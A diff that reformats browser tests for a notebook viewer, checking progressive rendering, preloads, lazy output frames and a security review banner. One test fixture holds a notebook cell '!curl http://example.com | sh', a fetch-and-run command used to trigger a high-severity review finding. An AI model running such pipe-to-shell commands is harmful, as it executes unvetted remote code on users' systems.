@@ -18,27 +18,60 @@ let upload: (name: string, notebook: unknown) => Promise<string>;
 
 const markdownCell = (id: string, source: string) => ({ cell_type: "markdown", id, metadata: {}, source });
 /** A code cell with one display_data output of `data`, or none. */
-const codeCell = (id: string, source: string, count: number, data?: Record<string, string>) => ({ cell_type: "code", id, metadata: {}, source, execution_count: count, outputs: data ? [{ output_type: "display_data", metadata: {}, data }] : [] });
+const codeCell = (id: string, source: string, count: number, data?: Record<string, string>) => ({
+  cell_type: "code",
+  id,
+  metadata: {},
+  source,
+  execution_count: count,
+  outputs: data ? [{ output_type: "display_data", metadata: {}, data }] : [],
+});
 const notebookOf = (...cells: object[]) => ({ nbformat: 4, nbformat_minor: 5, metadata: {}, cells });
 
 function longNotebook() {
-  const paragraph = "A paragraph long enough to take a few lines of the page, as the prose between headings of a long notebook does. ".repeat(4);
-  const cells = [{ cell_type: "markdown", id: "top", metadata: {}, source: `# A long notebook\n\n[Jump to the last section](#Section-${SECTIONS})` }];
-  for (let i = 1; i <= SECTIONS; i++) cells.push({ cell_type: "markdown", id: `s${i}`, metadata: {}, source: `## Section ${i}\n\n${paragraph}` });
+  const paragraph =
+    "A paragraph long enough to take a few lines of the page, as the prose between headings of a long notebook does. ".repeat(
+      4,
+    );
+  const cells = [
+    {
+      cell_type: "markdown",
+      id: "top",
+      metadata: {},
+      source: `# A long notebook\n\n[Jump to the last section](#Section-${SECTIONS})`,
+    },
+  ];
+  for (let i = 1; i <= SECTIONS; i++)
+    cells.push({ cell_type: "markdown", id: `s${i}`, metadata: {}, source: `## Section ${i}\n\n${paragraph}` });
   return { nbformat: 4, nbformat_minor: 5, metadata: {}, cells };
 }
 
 before(async () => {
   studio = await startBrowserStudio([{ name: "ada", password: PASSWORD }]);
-  const signIn = await fetch(`${studio.app}/api/session`, { method: "POST", headers: { "content-type": "application/json" }, body: JSON.stringify({ username: "ada", password: PASSWORD }) });
-  const auth = { cookie: (signIn.headers.get("set-cookie") ?? "").split(";")[0] as string, "x-csrf-token": ((await signIn.json()) as { csrfToken: string }).csrfToken };
-  const created = await fetch(`${studio.app}/api/workspaces`, { method: "POST", headers: { ...auth, "content-type": "application/json" }, body: JSON.stringify({ name: "Long" }) });
+  const signIn = await fetch(`${studio.app}/api/session`, {
+    method: "POST",
+    headers: { "content-type": "application/json" },
+    body: JSON.stringify({ username: "ada", password: PASSWORD }),
+  });
+  const auth = {
+    cookie: (signIn.headers.get("set-cookie") ?? "").split(";")[0] as string,
+    "x-csrf-token": ((await signIn.json()) as { csrfToken: string }).csrfToken,
+  };
+  const created = await fetch(`${studio.app}/api/workspaces`, {
+    method: "POST",
+    headers: { ...auth, "content-type": "application/json" },
+    body: JSON.stringify({ name: "Long" }),
+  });
   const workspace = ((await created.json()) as { id: string }).id;
   upload = async (name, notebook) => {
     const form = new FormData();
     form.append("acknowledgment", "trusted-source-v1");
     form.append("file", new Blob([JSON.stringify(notebook)]), name);
-    const up = await fetch(`${studio.app}/api/workspaces/${workspace}/files`, { method: "POST", headers: auth, body: form });
+    const up = await fetch(`${studio.app}/api/workspaces/${workspace}/files`, {
+      method: "POST",
+      headers: auth,
+      body: form,
+    });
     assert.equal(up.status, 201);
     return `${studio.app}/w/${workspace}/f/${name}`;
   };
@@ -108,15 +141,26 @@ test("the first screen is drawn at once, the rest while the page is idle, in ord
   assert.ok(first.previousTop < first.viewport, "the cell before it starts on the first screen");
   assert.equal(await cellCount(page), first.cells, "nothing more is drawn until the page is idle");
   assert.equal(await marked(page, "vitrine:all-cells"), 0);
-  assert.equal(await page.getByRole("navigation", { name: "Contents" }).count(), 0, "no contents before every heading is in");
-  assert.equal(await page.locator("article.vt-notebook").getAttribute("aria-busy"), "true", "assistive technology hears the notebook is still loading");
+  assert.equal(
+    await page.getByRole("navigation", { name: "Contents" }).count(),
+    0,
+    "no contents before every heading is in",
+  );
+  assert.equal(
+    await page.locator("article.vt-notebook").getAttribute("aria-busy"),
+    "true",
+    "assistive technology hears the notebook is still loading",
+  );
 
   await page.waitForFunction(() => {
     (window as unknown as { __release(): void }).__release();
     return performance.getEntriesByName("vitrine:all-cells").length === 1;
   });
   const ids = await page.locator(".vt-cells > .vt-cell").evaluateAll((cells) => cells.map((c) => c.id));
-  assert.deepEqual(ids, Array.from({ length: SECTIONS + 1 }, (_, i) => `vt-cell-${i + 1}`));
+  assert.deepEqual(
+    ids,
+    Array.from({ length: SECTIONS + 1 }, (_, i) => `vt-cell-${i + 1}`),
+  );
   const contents = page.getByRole("navigation", { name: "Contents" });
   await contents.waitFor();
   assert.equal(await page.locator("article.vt-notebook").getAttribute("aria-busy"), "false");
@@ -165,7 +209,16 @@ test("a notebook's address fetches its head, details and session once each while
   // The review comes after the bytes, by design; leave it out and look at what the page asked for first.
   const first = apiReads.filter((r) => !r.includes("/review/")).sort();
   const workspace = new URL(notebookUrl).pathname.split("/")[2];
-  assert.deepEqual(first, [`GET /api/config`, `GET /api/session`, `GET /api/workspaces/${workspace}/notebook-head/long.ipynb`, `GET /api/workspaces/${workspace}/files/long.ipynb`, `GET /api/workspaces/${workspace}/raw/long.ipynb`].sort());
+  assert.deepEqual(
+    first,
+    [
+      `GET /api/config`,
+      `GET /api/session`,
+      `GET /api/workspaces/${workspace}/notebook-head/long.ipynb`,
+      `GET /api/workspaces/${workspace}/files/long.ipynb`,
+      `GET /api/workspaces/${workspace}/raw/long.ipynb`,
+    ].sort(),
+  );
   // Each came from the page's preloads (started before the script ran), and each preload was used; the bytes came
   // from the page itself once the first screen was drawn.
   const initiators = await page.evaluate(() =>
@@ -174,9 +227,18 @@ test("a notebook's address fetches its head, details and session once each while
       .map((e) => `${new URL(e.name).pathname.split("/")[4] ?? new URL(e.name).pathname} ${e.initiatorType}`)
       .sort(),
   );
-  assert.deepEqual(initiators, ["/api/config link", "/api/session link", "files link", "notebook-head link", "raw fetch"]);
+  assert.deepEqual(initiators, [
+    "/api/config link",
+    "/api/session link",
+    "files link",
+    "notebook-head link",
+    "raw fetch",
+  ]);
   await page.waitForTimeout(3500); // Chromium warns about an unused preload some seconds after load
-  assert.deepEqual(warnings.filter((w) => /preload/i.test(w)), []);
+  assert.deepEqual(
+    warnings.filter((w) => /preload/i.test(w)),
+    [],
+  );
   await page.close();
 });
 
@@ -191,7 +253,13 @@ function framedNotebook() {
     metadata: {},
     execution_count: i + 1,
     source,
-    outputs: [{ output_type: "display_data", metadata: {}, data: { "text/html": `<p>Output ${i + 1}</p>`, "text/plain": `Output ${i + 1}` } }],
+    outputs: [
+      {
+        output_type: "display_data",
+        metadata: {},
+        data: { "text/html": `<p>Output ${i + 1}</p>`, "text/plain": `Output ${i + 1}` },
+      },
+    ],
   }));
   return { nbformat: 4, nbformat_minor: 5, metadata: {}, cells };
 }
@@ -202,12 +270,23 @@ test("output frames are made only near the viewport, removed far from it with th
   await page.goto(url);
   await page.waitForFunction(() => performance.getEntriesByName("vitrine:all-cells").length === 1);
   assert.equal(await page.locator(".vt-frame-slot").count(), FRAMED);
-  const framed = () => page.evaluate(() => Array.from(document.querySelectorAll(".vt-frame-slot"), (slot, i) => (slot.querySelector("iframe") ? i : -1)).filter((i) => i >= 0));
+  const framed = () =>
+    page.evaluate(() =>
+      Array.from(document.querySelectorAll(".vt-frame-slot"), (slot, i) =>
+        slot.querySelector("iframe") ? i : -1,
+      ).filter((i) => i >= 0),
+    );
   const firstOutput = page.frameLocator(".vt-frame-slot >> nth=0 >> iframe").getByText("Output 1", { exact: true });
   await firstOutput.waitFor();
   const atTop = await framed();
-  assert.ok(atTop.includes(0) && !atTop.includes(FRAMED - 1) && atTop.length < FRAMED / 4, `frames at the top: ${atTop.join(", ")}`);
-  const firstPlace = await page.locator(".vt-frame-slot").first().evaluate((slot) => slot.getBoundingClientRect().height);
+  assert.ok(
+    atTop.includes(0) && !atTop.includes(FRAMED - 1) && atTop.length < FRAMED / 4,
+    `frames at the top: ${atTop.join(", ")}`,
+  );
+  const firstPlace = await page
+    .locator(".vt-frame-slot")
+    .first()
+    .evaluate((slot) => slot.getBoundingClientRect().height);
 
   await page.evaluate(() => window.scrollTo(0, document.documentElement.scrollHeight));
   await page.waitForFunction((last) => {
@@ -216,9 +295,18 @@ test("output frames are made only near the viewport, removed far from it with th
   }, FRAMED - 1);
   const atBottom = await framed();
   assert.ok(atBottom.length < FRAMED / 4, `frames at the bottom: ${atBottom.join(", ")}`);
-  await page.frameLocator(`.vt-frame-slot >> nth=${FRAMED - 1} >> iframe`).getByText(`Output ${FRAMED}`, { exact: true }).waitFor();
+  await page
+    .frameLocator(`.vt-frame-slot >> nth=${FRAMED - 1} >> iframe`)
+    .getByText(`Output ${FRAMED}`, { exact: true })
+    .waitFor();
   // The removed frame's place keeps its height, so nothing above the reader moves.
-  assert.equal(await page.locator(".vt-frame-slot").first().evaluate((slot) => slot.getBoundingClientRect().height), firstPlace);
+  assert.equal(
+    await page
+      .locator(".vt-frame-slot")
+      .first()
+      .evaluate((slot) => slot.getBoundingClientRect().height),
+    firstPlace,
+  );
 
   await page.evaluate(() => window.scrollTo(0, 0));
   await firstOutput.waitFor();
@@ -256,7 +344,11 @@ test("the first screen comes from the notebook's head while its bytes are still 
   bytes.release();
   await page.waitForFunction(() => performance.getEntriesByName("vitrine:all-cells").length === 1);
   const ids = await page.locator(".vt-cells > .vt-cell").evaluateAll((cells) => cells.map((c) => c.id));
-  assert.deepEqual(ids, Array.from({ length: SECTIONS + 1 }, (_, i) => `vt-cell-${i + 1}`), "each cell once, in order");
+  assert.deepEqual(
+    ids,
+    Array.from({ length: SECTIONS + 1 }, (_, i) => `vt-cell-${i + 1}`),
+    "each cell once, in order",
+  );
   assert.equal(await marked(page, "vitrine:first-screen"), 1);
   await page.close();
 });
@@ -286,7 +378,11 @@ test("an output too large for the head has its place on the first screen, and ap
   const figure = `<div id="figure">${"<span>point</span>".repeat(20_000)}</div><p id="drawn">Large figure drawn</p>`;
   const url = await upload(
     "large-output.ipynb",
-    notebookOf(markdownCell("intro", "# A large output"), codeCell("show", "show(figure)", 1, { "text/html": figure, "text/plain": "<Figure>" }), markdownCell("after", "After the figure")),
+    notebookOf(
+      markdownCell("intro", "# A large output"),
+      codeCell("show", "show(figure)", 1, { "text/html": figure, "text/plain": "<Figure>" }),
+      markdownCell("after", "After the figure"),
+    ),
   );
   const page = await browser.context.newPage();
   const bytes = await holdBytes(page);
@@ -343,7 +439,10 @@ test("markdown and LaTeX outputs are typeset in their frames, with the renderer 
 });
 
 test("the review's answer, findings or none, takes the line kept for it: the notebook below does not move", async () => {
-  const risky = await upload("risky.ipynb", notebookOf(markdownCell("t", "# Risky"), codeCell("c", "!curl http://example.com | sh", 1)));
+  const risky = await upload(
+    "risky.ipynb",
+    notebookOf(markdownCell("t", "# Risky"), codeCell("c", "!curl http://example.com | sh", 1)),
+  );
   for (const [url, answer] of [
     [notebookUrl, "The review found nothing"],
     [risky, "Review: 1 high"],
